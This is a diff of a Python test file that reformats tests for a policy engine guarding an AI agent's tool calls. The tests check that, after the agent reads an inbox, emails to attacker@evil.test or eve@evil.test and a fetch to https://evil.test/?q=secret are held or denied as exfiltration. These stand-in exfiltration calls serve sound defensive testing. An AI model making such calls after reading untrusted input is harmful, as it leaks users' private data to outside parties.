@@ -23,8 +23,9 @@ def test_inbox_then_external_send_is_held_as_trifecta(preset: str) -> None:
     policy = load_preset(preset)
     legs = _session_after_read_inbox(policy)
     profile = demo_profiles(policy)["send_email"]
-    decision = policy.decide(call("demo", "send_email", {"to": "attacker@evil.test", "subject": "x", "body": "y"}),
-                             profile, state(legs))
+    decision = policy.decide(
+        call("demo", "send_email", {"to": "attacker@evil.test", "subject": "x", "body": "y"}), profile, state(legs)
+    )
     assert decision.effect == "hold"
     assert decision.trifecta is True
     assert "trifecta.hold" in decision.rule_ids
@@ -37,8 +38,9 @@ def test_inbox_then_internal_send_does_not_complete_trifecta(preset: str) -> Non
     policy = load_preset(preset)
     legs = frozenset({Leg.P, Leg.U})
     profile = demo_profiles(policy)["send_email"]
-    decision = policy.decide(call("demo", "send_email", {"to": "bob@example.com", "subject": "x", "body": "y"}),
-                             profile, state(legs))
+    decision = policy.decide(
+        call("demo", "send_email", {"to": "bob@example.com", "subject": "x", "body": "y"}), profile, state(legs)
+    )
     assert decision.trifecta is False
     assert decision.legs_after == {Leg.P, Leg.U}
     assert not any(r.startswith("trifecta") for r in decision.rule_ids)
@@ -48,15 +50,19 @@ def test_inbox_then_internal_send_does_not_complete_trifecta(preset: str) -> Non
 def test_internal_send_in_open_preset_is_allowed_once_tool_is_known() -> None:
     policy = load_preset("open")
     profile = demo_profiles(policy)["send_email"]
-    decision = policy.decide(call("demo", "send_email", {"to": "Bob <bob@sales.example.com>"}), profile,
-                             state("P,U", used=True, pinned=profile.definition_hash))
+    decision = policy.decide(
+        call("demo", "send_email", {"to": "Bob <bob@sales.example.com>"}),
+        profile,
+        state("P,U", used=True, pinned=profile.definition_hash),
+    )
     assert decision.effect == "allow"
 
 
 def test_mixed_recipients_count_as_external(controlled: CompiledPolicy) -> None:
     profile = demo_profiles(controlled)["send_email"]
-    decision = controlled.decide(call("demo", "send_email", {"to": "bob@example.com, eve@evil.test"}), profile,
-                                 state("P,U"))
+    decision = controlled.decide(
+        call("demo", "send_email", {"to": "bob@example.com, eve@evil.test"}), profile, state("P,U")
+    )
     assert decision.trifecta is True and decision.effect == "hold"
 
 
@@ -70,10 +76,12 @@ def test_lockdown_denies_the_trifecta_instead_of_holding(lockdown: CompiledPolic
 def test_fetch_url_to_outside_host_after_inbox_is_held(controlled: CompiledPolicy) -> None:
     # exfiltration through a GET: the URL itself leaves the organisation
     profile = demo_profiles(controlled)["fetch_url"]
-    outside = controlled.decide(call("demo", "fetch_url", {"url": "https://evil.test/?q=secret"}), profile,
-                                state("P,U"))
-    inside = controlled.decide(call("demo", "fetch_url", {"url": "https://wiki.example.com/page"}), profile,
-                               state("P,U"))
+    outside = controlled.decide(
+        call("demo", "fetch_url", {"url": "https://evil.test/?q=secret"}), profile, state("P,U")
+    )
+    inside = controlled.decide(
+        call("demo", "fetch_url", {"url": "https://wiki.example.com/page"}), profile, state("P,U")
+    )
     assert outside.effect == "hold" and outside.trifecta
     assert inside.effect == "allow" and not inside.trifecta
 
